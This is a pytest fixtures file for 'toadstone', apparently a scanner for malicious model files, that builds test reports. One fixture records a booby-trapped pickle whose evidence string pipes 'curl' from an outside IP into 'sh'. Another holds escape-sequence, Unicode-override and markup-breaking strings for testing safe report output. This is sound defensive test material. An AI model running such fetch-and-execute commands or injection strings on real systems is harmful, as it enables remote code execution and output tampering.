from __future__ import annotations

import pytest

from toadstone.core.check import discover
from toadstone.core.finding import Confidence, Finding, Indicator, Severity
from toadstone.core.place import Place
from toadstone.core.report import Gap, Report, Subject

HOSTILE = "mo\x1b[31mdels/e\u202evil\x07`|<b>.pkl"
"""A name with an escape sequence, a right-to-left override, a bell, and what Markdown and XML care about."""


def found(
    check: str, path: str, message: str, *, severity: Severity | None = None, member: str = "", offset: int = -1, **evidence
) -> Finding:
    cls = discover()[check]
    return Finding(
        check,
        cls.severity if severity is None else severity,
        Confidence.HIGH,
        Place(path, member, offset),
        message,
        evidence,
        "Do not load it.",
        (Indicator("ipv4", "203.0.113.7"),) if "code" in evidence else (),
        cls.references[:1],
    )


def digests(letter: str) -> dict[str, str]:
    return {"sha256": letter * 64, "blake3": letter * 64}


@pytest.fixture
def small() -> Report:
    """One booby-trapped file with a payload, one clean file, one that was not read."""
    code = "os.system('curl -s http://203.0.113.7/x | sh')"
    trap = found("unsafe-import", "models/a.pkl", "Loading this calls os.system, which can run commands.", offset=12, code=code)
    waived = found("hidden-data", "models/a.pkl", "Bytes behind the end.", offset=90)
    gap = Gap(Place("models/c.bin", "part", 16), "300 bytes not recognised (begins 93 af)")
    return Report(
        (
            Subject("models/a.pkl", "pickle", 120, digests("a"), (), (trap,), ((waived, "reviewed (until 2027-01-31)"),)),
            Subject("models/b.safetensors", "safetensors", 2048, digests("b")),
            Subject("models/c.bin", "zip", 400, digests("c"), (gap,)),
        ),
    )


@pytest.fixture
def hostile() -> Report:
    """Everything that a scanned file can bring into a report tries to break out of it."""
    words = "]]> </failure> ``` \x1b]0;title\x07 \u202e | <script> \u200b \x00 \r\n## heading"
    trap = found(
        "unsafe-import", HOSTILE, words, member=f"in/{HOSTILE}", offset=3, code=f"os.system('{words}')", witness=f"a -> {words}"
    )
    gap = Gap(Place(HOSTILE, HOSTILE), words)
    lone = Subject("s\udce4rrogate.pkl", "pickle", 3, {}, (Gap(Place("s\udce4rrogate.pkl"), "x\ud800y"),))
    return Report((Subject(HOSTILE, "pickle", 10, digests("d"), (gap,), (trap,), ((trap, words),)), lone))
